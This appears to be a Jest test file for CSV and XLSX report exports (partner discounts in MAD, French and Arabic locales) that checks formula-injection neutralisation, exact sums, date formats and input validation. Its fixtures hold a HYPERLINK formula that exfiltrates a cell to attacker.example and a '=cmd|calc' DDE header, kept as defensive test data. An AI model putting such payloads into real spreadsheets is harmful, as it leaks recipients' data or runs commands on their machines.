import { parse } from 'csv-parse/sync';
import { type Cell, ValueType, Workbook, type Worksheet } from 'exceljs';

import { type ExportTable, toCsv, toXlsx } from '../../src/reports/export';

const FORMULA_LIKE = ['=1+1', '+212600000000', '-5 MAD', '@SUM(A1)', '\tx', '\rx'];
const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Cliquez")';
const ARABIC = 'صيدلية الأمل — طنجة-تطوان-الحسيمة';

function buildTable(overrides: Partial<ExportTable> = {}): ExportTable {
  const partners = [...FORMULA_LIKE, HYPERLINK, ARABIC, 'Pharmacie "Atlas"; Fès\nBab Ftouh'];

  return {
    columns: [
      { key: 'partner', header: 'Partenaire', type: 'text' },
      { key: 'redemptions', header: 'Passages', type: 'integer' },
      { key: 'discount', header: 'Remises (MAD)', type: 'money' },
      { key: 'share', header: 'Part', type: 'number' },
      { key: 'day', header: 'Jour', type: 'date' },
    ],
    rows: partners.map((partner, i) => ({
      partner,
      // Negative counts and amounts appear in net figures after voids.
      redemptions: i % 3 === 0 ? -i : i * 7,
      discount: i % 2 === 0 ? -(i * 1234 + 5) : i * 98765 + 1,
      share: i % 2 === 0 ? -i / 4 : i / 20,
      day: `2026-06-${String(i + 1).padStart(2, '0')}`,
    })),
    ...overrides,
  };
}

function sumOf(table: ExportTable, key: string): number {
  return table.rows.reduce((total, row) => total + Number(row[key]), 0);
}

/** Parses a decimal written with `mark` into an integer count of hundredths, exactly. */
function hundredths(text: string, mark: ',' | '.'): number {
  const match = new RegExp(`^(-?)(\\d+)(?:\\${mark}(\\d{1,2}))?$`).exec(text);
  if (match === null) {
    throw new Error(`not a plain decimal: ${JSON.stringify(text)}`);
  }

  const value = Number(match[2]) * 100 + Number((match[3] ?? '').padEnd(2, '0'));

  return match[1] === '-' ? -value : value;
}

function readCsv(buffer: Buffer, delimiter: string): string[][] {
  return parse(buffer, { bom: true, delimiter, relax_column_count: false }) as string[][];
}

async function readXlsx(buffer: Buffer): Promise<Worksheet> {
  const workbook = new Workbook();
  await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0];
  if (sheet === undefined) {
    throw new Error('no worksheet');
  }

  return sheet;
}

function column(sheet: Worksheet, index: number): Cell[] {
  const cells: Cell[] = [];
  for (let row = 2; row <= sheet.rowCount; row += 1) {
    cells.push(sheet.getRow(row).getCell(index));
  }

  return cells;
}

describe('toCsv', () => {
  it('starts with a UTF-8 byte order mark and ends records with CRLF', () => {
    const csv = toCsv(buildTable());

    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString('utf8')).toMatch(
      /^\uFEFFPartenaire;Passages;Remises \(MAD\);Part;Jour\r\n/,
    );
    expect(csv.toString('utf8').endsWith('\r\n')).toBe(true);
  });

  it('makes formula-like text inert with a leading apostrophe', () => {
    const rows = readCsv(toCsv(buildTable()), ';').slice(1);

    FORMULA_LIKE.forEach((text, i) => {
      expect(rows[i]?.[0]).toBe(`'${text}`);
    });
    expect(rows[FORMULA_LIKE.length]?.[0]).toBe(`'${HYPERLINK}`);
  });

  it('neutralises the full-width signs that Apple Numbers folds into formulas', () => {
    const table = buildTable({ rows: [{ partner: '\uFF1D1+1' }, { partner: '\uFF20SUM(A1)' }] });
    const rows = readCsv(toCsv(table), ';').slice(1);

    expect(rows.map((r) => r[0])).toEqual(["'\uFF1D1+1", "'\uFF20SUM(A1)"]);
  });

  it('neutralises formula-like headers too', () => {
    const table = buildTable({ columns: [{ key: 'partner', header: '=cmd|calc', type: 'text' }] });

    expect(readCsv(toCsv(table), ';')[0]).toEqual(["'=cmd|calc"]);
  });

  it('round-trips Arabic text and text with separators, quotes and line breaks', () => {
    const rows = readCsv(toCsv(buildTable()), ';').slice(1);

    expect(rows[FORMULA_LIKE.length + 1]?.[0]).toBe(ARABIC);
    expect(rows[FORMULA_LIKE.length + 2]?.[0]).toBe('Pharmacie "Atlas"; Fès\nBab Ftouh');
  });

  it('writes numeric columns as plain numbers, negative ones included, that sum exactly', () => {
    const table = buildTable();
    const rows = readCsv(toCsv(table), ';').slice(1);

    expect(rows.some((r) => r[1]?.startsWith('-'))).toBe(true);
    expect(rows.every((r) => !/^'/.test(`${r[1]}${r[2]}${r[3]}`))).toBe(true);
    expect(rows.reduce((total, r) => total + Number(r[1]), 0)).toBe(sumOf(table, 'redemptions'));
    expect(rows.reduce((total, r) => total + hundredths(r[2] ?? '', ','), 0)).toBe(
      sumOf(table, 'discount'),
    );
    expect(rows.reduce((total, r) => total + hundredths(r[3] ?? '', ','), 0)).toBe(
      table.rows.reduce((total, row) => total + Math.round(Number(row.share) * 100), 0),
    );
  });

  it('writes money centimes as MAD with two decimals', () => {
    const table = buildTable({
      columns: [{ key: 'discount', header: 'Remise', type: 'money' }],
      rows: [
        { discount: 1234 },
        { discount: -5 },
        { discount: 0 },
        { discount: '900719925474099312' },
      ],
    });

    expect(readCsv(toCsv(table), ';').slice(1).flat()).toEqual([
      '12,34',
      '-0,05',
      '0,00',
      '9007199254740993,12',
    ]);
    expect(
      readCsv(toCsv(table, { dialect: 'rfc4180' }), ',')
        .slice(1)
        .flat(),
    ).toEqual(['12.34', '-0.05', '0.00', '9007199254740993.12']);
  });

  it('uses commas, decimal points and ISO dates in the RFC 4180 dialect', () => {
    const table = buildTable();
    const text = toCsv(table, { dialect: 'rfc4180' }).toString('utf8');
    const rows = readCsv(Buffer.from(text, 'utf8'), ',');

    expect(text.startsWith('\uFEFFPartenaire,Passages,Remises (MAD),Part,Jour\r\n')).toBe(true);
    expect(rows[1]).toEqual(["'=1+1", '0', '-0.05', '0', '2026-06-01']);
    expect(rows.slice(1).reduce((total, r) => total + Number(r[3]), 0)).toBe(sumOf(table, 'share'));
  });

  it('writes dates as DD/MM/YYYY for French Excel and empty values as empty fields', () => {
    const table = buildTable({
      rows: [
        { partner: null, redemptions: undefined, discount: '', share: null, day: '2026-02-28' },
      ],
    });

    expect(readCsv(toCsv(table), ';')[1]).toEqual(['', '', '', '', '28/02/2026']);
  });

  it('accepts PostgreSQL numeric and bigint strings in numeric columns', () => {
    const table = buildTable({
      rows: [{ partner: 'x', redemptions: '-12', discount: '-250', share: '-0.125', day: null }],
    });

    expect(readCsv(toCsv(table), ';')[1]).toEqual(['x', '-12', '-2,50', '-0,125', '']);
  });

  it.each([
    ['text given an object', 'partner', { a: 1 }],
    ['integer given a fraction', 'redemptions', 1.5],
    ['integer given a formula', 'redemptions', '=1+1'],
    ['money given a fraction of a centime', 'discount', 12.5],
    ['number given NaN', 'share', Number.NaN],
    ['number given text', 'share', '-5 MAD'],
    ['date given an instant', 'day', new Date('2026-06-30T10:00:00Z')],
    ['date given an impossible day', 'day', '2026-02-30'],
    ['integer beyond 2^53', 'redemptions', 2n ** 60n],
  ])('refuses %s with a TypeError naming the column and row', (_, key, value) => {
    const table = buildTable({ rows: [{ partner: 'ok', [key]: value }] });

    expect(() => toCsv(table)).toThrow(TypeError);
    expect(() => toCsv(table)).toThrow(new RegExp(`column ${key} .*row 1`));
  });

  it('does not repeat the offending value in the error, which may be personal data', () => {
    const table = buildTable({ rows: [{ redemptions: 'AB123456' }] });

    expect(() => toCsv(table)).toThrow(/got a string$/);
    expect(() => toCsv(table)).not.toThrow(/AB123456/);
  });
});

describe('toXlsx', () => {
  it('stores formula-like text as plain string cells, never as formulas', async () => {
    const sheet = await readXlsx(await toXlsx(buildTable(), { sheetName: 'Partenaires' }));
    const cells = column(sheet, 1);

    [...FORMULA_LIKE, HYPERLINK].forEach((text, i) => {
      const cell = cells[i] as Cell;

      expect(cell.type).toBe(ValueType.String);
      // A bare CR is stored as the spreadsheet line break, LF.
      expect(cell.value).toBe(text.replace('\r', '\n'));
      expect(cell.formula).toBeUndefined();
    });
    expect(cells.every((cell) => cell.type !== ValueType.Formula)).toBe(true);
    expect(cells.every((cell) => cell.numFmt === '@')).toBe(true);
  });

  it('round-trips Arabic text', async () => {
    const sheet = await readXlsx(await toXlsx(buildTable(), { sheetName: 'Partenaires' }));

    expect(column(sheet, 1)[FORMULA_LIKE.length + 1]?.value).toBe(ARABIC);
  });

  it('writes numeric columns as real numbers, negatives included, that sum exactly', async () => {
    const table = buildTable();
    const sheet = await readXlsx(await toXlsx(table, { sheetName: 'Partenaires' }));
    const numbers = (index: number): number[] =>
      column(sheet, index).map((cell) => {
        expect(cell.type).toBe(ValueType.Number);

        return cell.value as number;
      });

    expect(numbers(2).reduce((a, b) => a + b, 0)).toBe(sumOf(table, 'redemptions'));
    expect(numbers(3).reduce((a, b) => a + Math.round(b * 100), 0)).toBe(sumOf(table, 'discount'));
    expect(numbers(3)[0]).toBe(-0.05);
    expect(numbers(4).reduce((a, b) => a + b, 0)).toBe(sumOf(table, 'share'));
    expect(column(sheet, 3).every((cell) => cell.numFmt === '0.00')).toBe(true);
  });

  it('writes dates as real dates shown as DD/MM/YYYY', async () => {
    const sheet = await readXlsx(await toXlsx(buildTable(), { sheetName: 'Partenaires' }));
    const first = column(sheet, 5)[0] as Cell;

    expect(first.type).toBe(ValueType.Date);
    expect(first.value).toEqual(new Date(Date.UTC(2026, 5, 1)));
    expect(first.numFmt).toBe('dd/mm/yyyy');
  });

  it('has a bold, frozen header row with filters and reasonable column widths', async () => {
    const sheet = await readXlsx(await toXlsx(buildTable(), { sheetName: 'Partenaires' }));
    const header = sheet.getRow(1);

    expect(header.values).toEqual([
      undefined,
      'Partenaire',
      'Passages',
      'Remises (MAD)',
      'Part',
      'Jour',
    ]);
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, rightToLeft: false });
    expect(sheet.autoFilter).toBeDefined();
    for (let i = 1; i <= 5; i += 1) {
      const width = sheet.getColumn(i).width ?? 0;

      expect(width).toBeGreaterThanOrEqual(8);
      expect(width).toBeLessThanOrEqual(60);
    }
    expect(sheet.getColumn(1).width).toBe(HYPERLINK.length + 2);
    expect(sheet.getColumn(5).width).toBe(12);
  });

  it('caps the width of a column of very long text', async () => {
    const table = buildTable({ rows: [{ partner: 'Clinique '.repeat(30) }] });
    const sheet = await readXlsx(await toXlsx(table, { sheetName: 'x' }));

    expect(sheet.getColumn(1).width).toBe(60);
  });

  it('can show the sheet right to left for Arabic reports', async () => {
    const sheet = await readXlsx(await toXlsx(buildTable(), { sheetName: 'الشركاء', rtl: true }));

    expect(sheet.name).toBe('الشركاء');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', rightToLeft: true });
  });

  it('turns any title into a sheet name Excel accepts', async () => {
    const name = async (sheetName: string): Promise<string> =>
      (await readXlsx(await toXlsx(buildTable(), { sheetName }))).name;

    expect(await name('Remises / région : 2026 [T2]?')).toBe('Remises - région - 2026 -T2--');
    expect(await name("'Rapport'")).toBe('Rapport');
    expect(await name('')).toBe('Export');
    expect((await name('x'.repeat(40))).length).toBe(31);
  });

  it('refuses values that do not fit their column, like the CSV export', async () => {
    const table = buildTable({ rows: [{ discount: '12.50' }] });

    await expect(toXlsx(table, { sheetName: 'x' })).rejects.toThrow(
      /column discount \(money\), row 1/,
    );
  });
});
